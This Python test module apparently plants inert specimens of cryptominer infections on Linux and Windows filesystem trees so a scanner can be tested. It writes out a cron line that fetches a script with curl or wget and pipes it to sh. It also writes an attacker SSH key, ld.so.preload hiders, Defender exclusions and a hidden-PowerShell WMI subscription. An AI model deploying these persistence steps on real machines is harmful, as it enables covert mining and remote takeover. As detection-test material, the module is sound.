"""Plants a harmless infection by an XMRig-style miner on Linux or Windows, and runs the two watchdogs of Linux.

Programs of Linux are copies of the system's own shell and library with the strings that the rules look for added at the
end, those of Windows only return;
scripts end at once unless the test starts them; addresses are from the documentation range; nobody holds the private
half of the key. Works as root and as a user; the immutable attribute is set where the system allows it.
"""

import base64
import contextlib
import hashlib
import os
import shutil
import signal
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

from quetsach.packs.specimen import Planted
from quetsach.packs.specimen.formats import build_instance, build_repository, build_shortcut, build_task
from quetsach.packs.specimen.hive import DWORD, EXPAND_SZ, MULTI_SZ, SZ
from quetsach.packs.specimen.innocent import FIREWALL, NT, SERVICES, STARTUP, SVCHOST, USER_CV, plant_infected
from quetsach.packs.specimen.linux_tree import Tree
from quetsach.packs.specimen.program import build_elf, build_pe

HIDDEN = "/var/tmp/.configrc"
PROGRAM = f"{HIDDEN}/kswapd0"
SCRIPT = f"{HIDDEN}/upd"
SECOND_PROGRAM = "/tmp/kdevtmpfsi"
LIFETIME_SECONDS = 600
"""As long as a busy machine may take for what is tried with them."""

_MINER_STRINGS = (
    b"stratum+tcp://192.0.2.10:3333\0donate-level\0donate-over-proxy\0randomx-1gb-pages\0cpu-max-threads-hint\0rig-id\0"
)
_HIDER_STRINGS = b"/proc/self/fd/%d\0/proc/%s/stat\0%d (%[^)]s\0readdir64\0dlsym\0"
_CONFIGURATION = """{
    "autosave": true,
    "donate-level": 0,
    "randomx": {"1gb-pages": false},
    "cpu": {"huge-pages": true, "max-threads-hint": 75},
    "pools": [{"url": "192.0.2.10:3333", "user": "specimen", "rig-id": "specimen", "nicehash": true}]
}
"""
# The first lines name what a real dropper does; they are comments. Without its five arguments the script ends at once.
_WATCHDOG = """#!/bin/sh
# specimen of: kswapd0 -o stratum+tcp://192.0.2.10:3333 --donate-level 0
# specimen of: crontab -, echo hider > /etc/ld.so.preload, chattr +i, cat key >> authorized_keys, pkill -f rival
[ $# -eq 5 ] || exit 0
alive() {
    state=$(cat "/proc/$1/stat" 2>/dev/null) || return 1
    case "$state" in *") Z "*) return 1 ;; esac
}
echo $$ >"$1/$2.new" && mv "$1/$2.new" "$1/$2"
while [ -d "$1" ] && [ "$(date +%s)" -lt "$4" ]; do
    peer=$(cat "$1/$3" 2>/dev/null)
    if [ -z "$peer" ] || ! alive "$peer"; then
        "$5" "$0" "$1" "$3" "$2" "$4" "$5" &
        sleep 0.5
    fi
    sleep 0.2
done
"""
_KEY = base64.b64encode(
    b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + hashlib.sha256(b"quetsach specimen: nobody holds the private half").digest()
).decode()

_CRON_START = f"@reboot root {SCRIPT} >/dev/null 2>&1"
_CRON_DOWNLOAD = (
    "* * * * * (curl -fsSL http://192.0.2.10/x.sh || wget -q -O - http://192.0.2.10/x.sh) | sh >/dev/null 2>&1"
)
_SSH_KEY = f"ssh-ed25519 {_KEY} mdrfckr"
_START = f"{SCRIPT} >/dev/null 2>&1 &"
_SERVICE = f"""[Unit]
Description=Page cache helper
After=network.target

[Service]
Type=simple
ExecStart={PROGRAM} -B
Restart=always

[Install]
WantedBy=multi-user.target
"""
_PACKED = b"\xd0\x0d\x5e\xc3" * 300
_PACKED_SERVICE = """[Service]
ExecStart=/etc/kinsing

[Install]
WantedBy=multi-user.target
"""
_TIMER = """[Unit]
Description=Page cache helper, every ten minutes

[Timer]
OnBootSec=1min
OnUnitActiveSec=10min
Unit=pagecache-helper.service

[Install]
WantedBy=timers.target
"""


def build_linux(root: Path) -> list[Planted]:
    """Plant the whole infection of a Linux machine below ``root``, beside what stands in the files it adds lines to."""
    tree = Tree(root)
    shell = Path("/bin/sh").resolve().read_bytes()
    library, packed_library = "/usr/local/lib/libhide.so", "/etc/libsystem.so"
    scheduled = "/root/.configrc7/b/sync"
    tree.file(PROGRAM, shell + _MINER_STRINGS, mode=0o755, immutable=True)
    tree.file(SECOND_PROGRAM, shell + b"\0" + _MINER_STRINGS, mode=0o755)
    tree.file(f"{HIDDEN}/config.json", _CONFIGURATION.encode())
    tree.file(SCRIPT, _WATCHDOG.encode(), mode=0o755)
    tree.file(library, _shared_object() + _HIDER_STRINGS, mode=0o644, immutable=True)
    for path in ("/etc/kinsing", packed_library, scheduled):
        tree.file(path, build_elf(_PACKED), mode=0o755)
    for path in ("/etc/libsystem.so.2", "/root/.configrc7/b/notes", "/etc/kinsing-report"):
        tree.beside(path, "an honest file with a name like those\n")
    tree.line("preload-entry", "/etc/ld.so.preload", library)
    tree.line("preload-entry", "/etc/ld.so.preload", packed_library)
    tree.line("cron-entry", "/etc/cron.d/sync2", f"0 0 */3 * * root {scheduled}>/dev/null 2>&1")
    tree.unit("bot.service", _PACKED_SERVICE, wanted_by="multi-user.target")
    tree.line("cron-entry", "/etc/cron.d/0systask", _CRON_START, immutable=True)
    tree.line("cron-entry", "/var/spool/cron/crontabs/root", _CRON_DOWNLOAD, mode=0o600)
    tree.line("authorized-key", "/root/.ssh/authorized_keys", _SSH_KEY, mode=0o600)
    tree.line("rc-local-line", "/etc/rc.local", _START, mode=0o755)
    tree.line("profile-line", "/etc/profile.d/locale-cache.sh", _START)
    tree.unit("pagecache-helper.service", _SERVICE, wanted_by="multi-user.target")
    tree.unit("pagecache-helper.timer", _TIMER, wanted_by="timers.target")
    return tree.planted


_WANNAMINE = build_pe(
    dll=True, sections={".rdata": "snmpstorsrv\0TrustedHostex.exe\0AppDiagnostics\0".encode("utf-16-le")}
)
_MINER = build_pe(bits=64, sections={".rdata": _MINER_STRINGS})
_EVENT = "SCM Event8 Log"
_SCRIPT = "\n".join(
    (
        f"$filterName = '{_EVENT} Filter'  # specimen: nothing here is run",
        '# Set-WmiInstance -Class CommandLineEventConsumer CommandLineTemplate="powershell.exe -NoP -NonI -W Hidden"',
        "# $StaticClass.Name = 'systemcore_Updater8'",
    )
)
_WINDOWS_FILES = {
    "Windows/System32/snmpstorsrv.dll": _WANNAMINE,
    "Windows/System32/TrustedHostex.exe": _MINER,
    "Windows/System32/wmassrv.dll": build_pe(dll=True),
    "Windows/System32/vmichapagentsrv.dll": build_pe(dll=True, sections={"UPX0": _PACKED}),
    "Windows/Temp/sysupdater0.bat": b"@echo off\r\nrem specimen\r\n",
    "Windows/System32/NetworkUPnPHost.dll": build_pe(dll=True, sections={"UPX0": _PACKED}),
    "Windows/System32/MarsTraceDiagnostics.xml": b"specimen of the package",
    "Windows/AppDiagnostics/spoolsv.exe": build_pe(sections={".data": b"kit"}),
    "Windows/AppDiagnostics/x64.dll": build_pe(dll=True, bits=64, sections={".data": b"kit"}),
    "Windows/System32/WindowsPowerShell/v1.0/WinRing0x64.sys": build_pe(bits=64, sections={".data": b"driver"}),
    "Users/An/AppData/Local/Temp/in6.ps1": _SCRIPT.encode(),
    "ProgramData/system/xmr.exe": _MINER,
    "ProgramData/system/config.json": _CONFIGURATION.encode(),
}
_INNOCENT_FILES = {
    "Windows/System32/vmictimeprovider.dll": build_pe(dll=True, sections={".data": b"honest"}),
    "Windows/System32/NetworkUPnPClient.dll": build_pe(dll=True, sections={"UPX0": _PACKED}),
    "Windows/Temp/update.bat": b"@echo off\r\n",
}
_FIREWALL_LIST = rf"{FIREWALL}\StandardProfile\AuthorizedApplications\List"
_EXCLUDED = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_PACKAGED = r"C:\Windows\System32\TrustedHostex.exe"


def _service(name: str) -> dict[str, dict[str, tuple[int, object]]]:
    return {
        rf"{SERVICES}\{name}": {"ImagePath": (EXPAND_SZ, SVCHOST), "Start": (DWORD, 2), "Type": (DWORD, 0x20)},
        rf"{SERVICES}\{name}\Parameters": {"ServiceDll": (EXPAND_SZ, rf"%SystemRoot%\System32\{name}.dll")},
    }


def _repository() -> bytes:
    """Return a repository of WMI with the worm's subscription and the one that every Windows has."""

    def subscription(name: str, runs: bytes, kind: str) -> tuple[bytes, bytes, bytes]:
        query = "SELECT * FROM __InstanceModificationEvent WITHIN 13600"
        return (
            build_instance("__EventFilter", r"root\cimv2", f"{name} Filter", query, "WQL"),
            runs,
            build_instance(
                "__FilterToConsumerBinding", f'{kind}.Name="{name} Consumer"', f'__EventFilter.Name="{name} Filter"'
            ),
        )

    worm = build_instance(
        "CommandLineEventConsumer", "powershell.exe -NoP -NonI -W Hidden -E QQBB", f"{_EVENT} Consumer"
    )
    own = build_instance("NTEventLogEventConsumer", "Service Control Manager", "SCM Event Log Consumer")
    return build_repository(
        *subscription(_EVENT, worm, "CommandLineEventConsumer"),
        *subscription("SCM Event Log", own, "NTEventLogEventConsumer"),
    )


def build_windows(root: Path) -> list[Planted]:
    """Plant WannaMine and a miner of its own on a drive of Windows."""
    plant_infected(
        root,
        software={
            rf"{NT}\Svchost": {
                "netsvcs": (
                    MULTI_SZ,
                    ["BITS", "NetworkUPnPHost", "Schedule", "snmpstorsrv", "vmichapagentsrv", "wmassrv", "wuauserv"],
                )
            },
            r"Microsoft\Windows Defender\Exclusions\Processes": {_EXCLUDED: (DWORD, 0)},
            r"Microsoft\Windows Defender\Exclusions\Paths": {r"C:\Program Files\UniKey": (DWORD, 0)},
        },
        system={
            **_service("snmpstorsrv"),
            **_service("wmassrv"),
            **_service("vmichapagentsrv"),
            **_service("NetworkUPnPHost"),
            rf"{SERVICES}\WinRing0_1_2_0": {
                "ImagePath": (EXPAND_SZ, r"\??\C:\Windows\System32\WindowsPowerShell\v1.0\WinRing0x64.sys"),
                "Start": (DWORD, 3),
                "Type": (DWORD, 1),
            },
            _FIREWALL_LIST: {_PACKAGED: (SZ, f"{_PACKAGED}:*:Enabled:TrustedHostex")},
        },
        users={"An": {rf"{USER_CV}\Run": {"system": (SZ, r"C:\ProgramData\system\xmr.exe -B")}}},
        files={
            **_WINDOWS_FILES,
            **_INNOCENT_FILES,
            f"Users/An/{STARTUP}/system.lnk": build_shortcut(local_path=r"C:\ProgramData\system\xmr.exe"),
            "Windows/System32/Tasks/UPnPHostServices": build_task(r"%SystemRoot%\AppDiagnostics\spoolsv.exe"),
            "Windows/System32/Tasks/sysupdater0": build_task(r"C:\Windows\Temp\sysupdater0.bat"),
            "Windows/System32/wbem/Repository/OBJECTS.DATA": _repository(),
        },
    )
    services = r"HKLM\SYSTEM\CurrentControlSet\Services"
    firewall = _FIREWALL_LIST.removeprefix(SERVICES)
    return [
        *(Planted("file", f"/{path}") for path in _WINDOWS_FILES),
        *(
            Planted("service", rf"{services}\{name}")
            for name in ("snmpstorsrv", "wmassrv", "vmichapagentsrv", "NetworkUPnPHost", "WinRing0_1_2_0")
        ),
        Planted("registry-value", rf"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Processes\{_EXCLUDED}"),
        Planted("registry-value", rf"{services}{firewall}\{_PACKAGED}"),
        Planted("registry-value", rf"HKU\An\{USER_CV}\Run\system"),
        Planted("startup-file", f"/Users/An/{STARTUP}/system.lnk"),
        Planted("scheduled-task", "/Windows/System32/Tasks/UPnPHostServices"),
        Planted("scheduled-task", "/Windows/System32/Tasks/sysupdater0"),
        Planted("wmi-subscription", "/Windows/System32/wbem/Repository/OBJECTS.DATA"),
    ]


@contextlib.contextmanager
def processes(root: Path) -> Iterator["Watchdogs"]:
    """Run the two watchdogs of the infection planted below ``root``.

    Each starts the other again within a second when it is gone. They end with the context and in any case after
    ``LIFETIME_SECONDS``. They have a process group of their own and write only to a folder beside the tree.
    """
    program, script = str(root / PROGRAM.lstrip("/")), str(root / SCRIPT.lstrip("/"))
    state = Path(tempfile.mkdtemp(prefix="watchdogs-"))
    deadline = str(int(time.time()) + LIFETIME_SECONDS)
    first = subprocess.Popen(
        [program, script, str(state), "one", "two", deadline, program],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        cwd="/",
        start_new_session=True,
    )
    watchdogs = Watchdogs(state)
    try:
        watchdogs.wait_for_both()
        yield watchdogs
    finally:
        # The first process is not waited for until here, so its number, which names the group, belongs to nobody else.
        with contextlib.suppress(ProcessLookupError):
            os.killpg(first.pid, signal.SIGKILL)
        first.wait()
        shutil.rmtree(state, ignore_errors=True)


class Watchdogs:
    """The two processes; each may be replaced by a new one at any time."""

    def __init__(self, state: Path) -> None:
        self._state = state

    def pids(self) -> list[int]:
        """Return the process numbers of those that live now."""
        written = [self._state / name for name in ("one", "two")]
        return [pid for pid in (int(f.read_text() or 0) for f in written if f.exists()) if _lives(pid)]

    def wait_for_both(self, seconds: float = LIFETIME_SECONDS) -> list[int]:
        """Return the process numbers once both live."""
        until = time.monotonic() + seconds
        while len(pids := self.pids()) < 2:
            if time.monotonic() > until:
                raise TimeoutError("the watchdogs did not start")
            time.sleep(0.05)
        return pids


def _lives(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in "ZX"
    except OSError:
        return False


def _shared_object() -> bytes:
    """Return a library that does nothing when it is loaded: the C library keeps some for old programs."""
    for name in ("libdl.so.2", "libutil.so.1", "libpthread.so.0"):
        for folder in ("/lib", "/usr/lib", "/lib64", "/usr/lib64"):
            for found in sorted([*Path(folder).glob(name), *Path(folder).glob(f"*-linux-gnu*/{name}")]):
                return found.resolve().read_bytes()
    return Path("/bin/true").resolve().read_bytes()
